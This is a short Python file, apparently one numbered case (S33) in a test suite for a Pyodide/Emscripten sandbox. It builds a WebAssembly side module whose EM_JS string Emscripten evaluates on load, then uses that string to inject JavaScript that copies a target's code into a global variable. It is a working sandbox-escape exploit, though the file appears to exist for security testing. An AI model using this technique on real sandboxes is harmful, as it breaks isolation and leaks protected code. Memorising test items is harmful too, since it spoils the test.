"""A side module whose EM_JS body Emscripten evaluates when it is loaded.

id: S33
canary: code
"""

import ctypes

import js


def section(number, body):
    return bytes([number]) + leb(len(body)) + body


def leb(value):
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def name(text):
    return leb(len(text)) + text.encode()


def side_module(javascript):
    """A WebAssembly library with nothing but one EM_JS string."""
    data = f"(void)<::>{{}}, ({javascript})".encode() + b"\0"
    dylink = name("dylink.0") + bytes([1]) + name("")[:0] + memory_info(len(data))
    imports = leb(2)
    imports += name("env") + name("memory") + bytes([2, 0]) + leb(1)
    imports += name("env") + name("__memory_base") + bytes([3, 0x7F, 0])
    exported = leb(1) + bytes([0x7F, 0, 0x41]) + leb(0) + bytes([0x0B])
    exports = leb(1) + name("__em_js__loot") + bytes([3]) + leb(1)
    segment = leb(1) + bytes([0, 0x23, 0, 0x0B]) + leb(len(data)) + data
    return (
        b"\0asm\x01\0\0\0"
        + section(0, dylink)
        + section(2, imports)
        + section(6, exported)
        + section(7, exports)
        + section(11, segment)
    )


def memory_info(size):
    body = leb(size) + leb(0) + leb(0) + leb(0)
    return leb(len(body)) + body


def attack(target):
    with open("/tmp/loot.so", "wb") as file:
        file.write(side_module(f"globalThis.loot = {target.code}"))
    ctypes.CDLL("/tmp/loot.so")
    return js.loot
